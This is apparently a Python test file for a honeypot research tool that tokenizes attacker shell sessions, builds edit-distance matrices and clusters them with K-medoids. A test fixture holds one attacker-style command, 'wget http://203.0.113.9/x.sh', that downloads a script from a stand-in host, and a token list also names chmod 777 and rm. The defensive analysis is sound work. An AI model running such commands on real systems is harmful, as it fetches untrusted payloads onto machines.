"""Distance matrices, K-medoids, model selection, cluster labelling.

The distance layer's caches are keyed by tokenizer fingerprint, so two
tokenizer configs never serve each other's entries;
``TestTokenizerCacheKeying`` pins that.  ``silhouette_score`` is checked
for exact equality against ``_reference_silhouette``, the per-point
masking loop it replaced.
"""

from __future__ import annotations

import random
from datetime import date

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.analysis.clusterselect import cluster_with_selection, elbow_point, select_k
from repro.analysis.distance import (
    clear_distance_caches,
    distance_matrix,
    session_tokens,
)
from repro.analysis.dld import normalized_dld
from repro.analysis.kmedoids import kmedoids, silhouette_score
from repro.analysis.tokenizer import RAW_TOKENIZER
from tests.test_hierarchical import dld_like_matrices


def two_group_matrix(n_per_group: int = 6, gap: float = 1.0) -> np.ndarray:
    """Block matrix: two tight groups far apart."""
    n = 2 * n_per_group
    matrix = np.full((n, n), gap)
    for start in (0, n_per_group):
        block = slice(start, start + n_per_group)
        matrix[block, block] = 0.05
    np.fill_diagonal(matrix, 0.0)
    return matrix


def _random_token_sequences(count: int, seed: int) -> list[list[str]]:
    rng = random.Random(seed)
    vocabulary = ["cd", "/tmp", "wget", "<url>", "chmod", "777", "rm", "echo"]
    return [
        [rng.choice(vocabulary) for _ in range(rng.randrange(0, 24))]
        for _ in range(count)
    ]


class TestDistanceMatrix:
    def test_symmetric_zero_diagonal(self):
        tokens = [["a", "b"], ["a", "c"], ["x"]]
        matrix = distance_matrix(tokens)
        assert np.allclose(matrix, matrix.T)
        assert np.allclose(np.diag(matrix), 0.0)

    def test_matches_brute_force(self):
        from repro.analysis.dld import normalized_dld

        tokens = [["a", "b"], ["a", "c"], ["a", "b"], ["x", "y", "z"]]
        matrix = distance_matrix(tokens)
        for i in range(4):
            for j in range(4):
                assert matrix[i, j] == pytest.approx(
                    normalized_dld(tokens[i], tokens[j])
                )

    def test_duplicates_have_zero_distance(self):
        matrix = distance_matrix([["a"], ["a"], ["b"]])
        assert matrix[0, 1] == 0.0
        assert matrix[0, 2] > 0

    def test_matrix_matches_naive_loop(self):
        tokens = _random_token_sequences(140, seed=9)
        clear_distance_caches()
        matrix = distance_matrix(tokens)
        for i, a in enumerate(tokens):
            for j, b in enumerate(tokens):
                assert matrix[i, j] == normalized_dld(a, b)

    def test_empty_input_gives_empty_matrix(self):
        assert distance_matrix([]).shape == (0, 0)

    def test_paper_scale_matrix_equals_clustering_matrix(self, dataset):
        clustering = dataset.clustering()
        assert np.array_equal(
            distance_matrix(clustering.tokens), clustering.matrix
        )


class TestTokenizerCacheKeying:
    """Regression: the distance-layer caches are per-tokenizer-config.

    ``clear_distance_caches`` is not called between configs, so before
    the fingerprint keying a cache warmed by one tokenizer config could
    serve another (the normalization ablation runs both over the same
    sessions in one process)."""

    @staticmethod
    def _session_with_ip():
        from repro.honeypot.session import CommandRecord
        from tests.conftest import make_record

        session = make_record(0.0, session_id="cache-key-test")
        session.commands.append(
            CommandRecord(raw="wget http://203.0.113.9/x.sh", known=True)
        )
        return session

    def test_two_configs_get_independent_token_caches(self):
        from repro.analysis.distance import clear_distance_caches, session_tokens
        from repro.analysis.tokenizer import DEFAULT_TOKENIZER, RAW_TOKENIZER

        clear_distance_caches()
        session = self._session_with_ip()
        # warm the cache under the normalizing config first — before the
        # fingerprint keying, the raw call below got these tokens back
        normalized = session_tokens([session], tokenizer=DEFAULT_TOKENIZER)[0]
        raw = session_tokens([session], tokenizer=RAW_TOKENIZER)[0]
        assert "<url>" in normalized
        assert "<url>" not in raw
        assert normalized != raw
        # and the warm entries survive, independently, for both configs
        assert session_tokens([session], tokenizer=DEFAULT_TOKENIZER)[0] == (
            normalized
        )
        assert session_tokens([session], tokenizer=RAW_TOKENIZER)[0] == raw

    def test_pair_cache_entries_are_per_fingerprint(self):
        from repro.analysis.distance import (
            _cached_pair_distance,
            clear_distance_caches,
            pair_distance,
        )
        from repro.analysis.tokenizer import DEFAULT_TOKENIZER, RAW_TOKENIZER

        clear_distance_caches()
        a, b = ("wget", "<url>"), ("wget", "203.0.113.9")
        pair_distance(a, b, DEFAULT_TOKENIZER.fingerprint)
        warm = _cached_pair_distance.cache_info()
        pair_distance(a, b, DEFAULT_TOKENIZER.fingerprint)
        hit = _cached_pair_distance.cache_info()
        assert hit.hits == warm.hits + 1
        pair_distance(a, b, RAW_TOKENIZER.fingerprint)
        other = _cached_pair_distance.cache_info()
        assert other.misses == hit.misses + 1  # distinct entry, no hit

    def test_matrix_caches_pairs_under_its_tokenizer(self, dataset):
        # A raw-tokenizer build must leave nothing a default build can hit.
        from repro.analysis.distance import _cached_pair_distance

        distinct = {tuple(tokens) for tokens in dataset.clustering().tokens}
        corpus = [list(tokens) for tokens in sorted(distinct)[:60]]
        assert len(corpus) == 60
        clear_distance_caches()
        distance_matrix(corpus, tokenizer=RAW_TOKENIZER)
        before = _cached_pair_distance.cache_info()
        distance_matrix(corpus)
        after = _cached_pair_distance.cache_info()
        assert after.hits == before.hits
        assert after.misses - before.misses == 60 * 59 // 2

    def test_fingerprint_covers_the_knobs(self):
        from repro.analysis.tokenizer import DEFAULT_TOKENIZER, RAW_TOKENIZER, TokenizerConfig

        assert DEFAULT_TOKENIZER.fingerprint != RAW_TOKENIZER.fingerprint
        assert TokenizerConfig(normalize=True).fingerprint == (
            DEFAULT_TOKENIZER.fingerprint
        )


class TestTokenizeOnce:
    """Regression: repeated calls must not re-tokenize the corpus."""

    def make_sessions(self, count: int):
        from tests.conftest import make_record
        from repro.util.timeutils import to_epoch

        return [
            make_record(
                to_epoch(date(2022, 5, 1), index), session_id=f"tok-{index}"
            )
            for index in range(count)
        ]

    @staticmethod
    def count_tokenizations(monkeypatch):
        """Instrument ``TokenizerConfig.tokenize`` (the cache's miss
        path) and return the list of session ids it was called for."""
        from repro.analysis.tokenizer import TokenizerConfig

        calls = []
        real = TokenizerConfig.tokenize
        monkeypatch.setattr(
            TokenizerConfig,
            "tokenize",
            lambda self, session: calls.append(session.session_id)
            or real(self, session),
        )
        return calls

    def test_repeated_calls_tokenize_each_session_once(self, monkeypatch):
        clear_distance_caches()
        calls = self.count_tokenizations(monkeypatch)
        sessions = self.make_sessions(5)
        first = session_tokens(sessions)
        second = session_tokens(sessions)
        assert len(calls) == 5
        assert first == second
        clear_distance_caches()

    def test_different_caps_are_cached_separately(self, monkeypatch):
        clear_distance_caches()
        calls = self.count_tokenizations(monkeypatch)
        sessions = self.make_sessions(3)
        session_tokens(sessions, max_tokens=10)
        session_tokens(sessions, max_tokens=20)
        assert len(calls) == 6
        clear_distance_caches()


class TestKMedoids:
    def test_separates_two_groups(self):
        matrix = two_group_matrix()
        result = kmedoids(matrix, 2, seed=0)
        labels = result.labels
        assert len(set(labels[:6])) == 1
        assert len(set(labels[6:])) == 1
        assert labels[0] != labels[6]

    def test_inertia_decreases_with_k(self):
        matrix = two_group_matrix()
        inertia_1 = kmedoids(matrix, 1, seed=0).inertia
        inertia_2 = kmedoids(matrix, 2, seed=0).inertia
        assert inertia_2 < inertia_1

    def test_k_equals_n(self):
        matrix = two_group_matrix(3)
        result = kmedoids(matrix, 6, seed=0)
        assert result.inertia == pytest.approx(0.0)

    def test_invalid_k(self):
        matrix = two_group_matrix(2)
        with pytest.raises(ValueError):
            kmedoids(matrix, 0)
        with pytest.raises(ValueError):
            kmedoids(matrix, 10)

    def test_non_square_rejected(self):
        with pytest.raises(ValueError):
            kmedoids(np.zeros((2, 3)), 1)

    def test_members(self):
        matrix = two_group_matrix()
        result = kmedoids(matrix, 2, seed=0)
        sizes = sorted(len(result.members(c)) for c in range(2))
        assert sizes == [6, 6]

    def test_deterministic(self):
        matrix = two_group_matrix()
        a = kmedoids(matrix, 2, seed=3)
        b = kmedoids(matrix, 2, seed=3)
        assert np.array_equal(a.labels, b.labels)


def _reference_silhouette(matrix: np.ndarray, labels: np.ndarray) -> float:
    """The silhouette as first written: two boolean masks per point."""
    n = matrix.shape[0]
    unique = np.unique(labels)
    if unique.size < 2 or unique.size >= n:
        return 0.0
    scores = np.zeros(n)
    for i in range(n):
        own = labels[i]
        own_mask = labels == own
        own_count = int(own_mask.sum())
        if own_count <= 1:
            scores[i] = 0.0
            continue
        a = matrix[i, own_mask].sum() / (own_count - 1)
        b = np.inf
        for other in unique:
            if other == own:
                continue
            other_mask = labels == other
            b = min(b, float(matrix[i, other_mask].mean()))
        denominator = max(a, b)
        scores[i] = 0.0 if denominator == 0 else (b - a) / denominator
    return float(scores.mean())


#: Label values that are neither contiguous nor start at zero.
SPARSE_LABELS = (-4, 0, 3, 7, 8, 41)


@st.composite
def labelled_matrices(draw):
    """A tie-heavy DLD-like matrix with arbitrary (often singleton) labels."""
    matrix = draw(dld_like_matrices())
    n = matrix.shape[0]
    labels = draw(
        st.lists(st.sampled_from(SPARSE_LABELS), min_size=n, max_size=n)
    )
    return matrix, np.array(labels)


class TestSilhouetteAgainstReference:
    @given(case=labelled_matrices())
    @settings(max_examples=200, deadline=None)
    def test_dld_like_matrices(self, case):
        matrix, labels = case
        assert silhouette_score(matrix, labels) == _reference_silhouette(
            matrix, labels
        )

    def test_singletons_and_sparse_labels(self):
        matrix = two_group_matrix(4)
        matrix[3, :] = matrix[:, 3] = 0.5
        matrix[3, 3] = 0.0
        labels = np.array([7, 7, 7, -4, 41, 41, 41, 3])
        score = silhouette_score(matrix, labels)
        assert score == _reference_silhouette(matrix, labels)
        assert 0.0 < score < 1.0

    def test_every_candidate_k_on_the_seed7_matrix(self, dataset):
        clustering = dataset.clustering()
        matrix = clustering.matrix
        assert matrix.shape == (117, 117)
        selection = clustering.selection
        for k, silhouette in zip(selection.candidates, selection.silhouettes):
            labels = kmedoids(matrix, k, seed=dataset.config.seed).labels
            assert silhouette == _reference_silhouette(matrix, labels)


class TestSilhouette:
    def test_high_for_separated_groups(self):
        matrix = two_group_matrix()
        result = kmedoids(matrix, 2, seed=0)
        assert silhouette_score(matrix, result.labels) > 0.8

    def test_single_cluster_zero(self):
        matrix = two_group_matrix()
        assert silhouette_score(matrix, np.zeros(12, dtype=int)) == 0.0

    def test_bad_clustering_scores_lower(self):
        matrix = two_group_matrix()
        good = kmedoids(matrix, 2, seed=0).labels
        bad = np.array([0, 1] * 6)
        assert silhouette_score(matrix, bad) < silhouette_score(matrix, good)


class TestSelection:
    def test_elbow_point_on_knee_curve(self):
        candidates = [1, 2, 3, 4, 5, 6]
        inertias = [100, 20, 15, 12, 10, 9]  # knee at 2
        assert elbow_point(candidates, inertias) in (2, 3)

    def test_select_k_two_groups(self):
        matrix = two_group_matrix(8)
        selection = select_k(matrix, candidates=[2, 3, 4, 5], seed=0)
        assert selection.silhouette_k == 2
        assert selection.chosen_k in (2, 3)

    def test_cluster_with_selection_returns_consistent(self):
        matrix = two_group_matrix(8)
        result, selection = cluster_with_selection(matrix, seed=0)
        assert result.k == selection.chosen_k

    def test_small_matrix(self):
        matrix = two_group_matrix(2)
        selection = select_k(matrix, seed=0)
        assert 2 <= selection.chosen_k < 4

    def test_empty_sample_is_a_clustering_with_k_zero(self):
        result, selection = cluster_with_selection(np.zeros((0, 0)))
        assert selection.chosen_k == 0
        assert selection.candidates == []
        assert result.k == 0
        assert result.labels.shape == (0,)
        assert result.inertia == 0.0

    def test_k_zero_needs_an_empty_matrix(self):
        with pytest.raises(ValueError):
            kmedoids(np.zeros((0, 0)), 1)
        with pytest.raises(ValueError):
            kmedoids(np.zeros((1, 1)), 0)


class TestClusterLabelling:
    def test_profiles_ranked_by_tokens(self, dataset):
        clustering = dataset.clustering()
        avg = [p.avg_tokens for p in clustering.profiles]
        assert avg == sorted(avg)
        assert clustering.profiles[0].rank == 1

    def test_labels_contain_rank(self, dataset):
        clustering = dataset.clustering()
        for profile in clustering.profiles:
            assert profile.label.startswith(f"C-{profile.rank}")

    def test_all_sessions_assigned(self, dataset):
        clustering = dataset.clustering()
        total = sum(p.size for p in clustering.profiles)
        assert total == len(clustering.sessions)

    def test_family_labels_from_known_families(self, dataset):
        known = {
            "Mirai", "Gafgyt", "Dofloo", "CoinMiner", "XorDDoS", "Malicious",
        }
        for profile in dataset.clustering().profiles:
            assert set(profile.families) <= known

    def test_sorted_matrix_shape(self, dataset):
        from repro.analysis.clusterlabel import sorted_distance_matrix

        clustering = dataset.clustering()
        ordered = sorted_distance_matrix(
            clustering.matrix, clustering.result, clustering.profiles
        )
        assert ordered.shape == clustering.matrix.shape
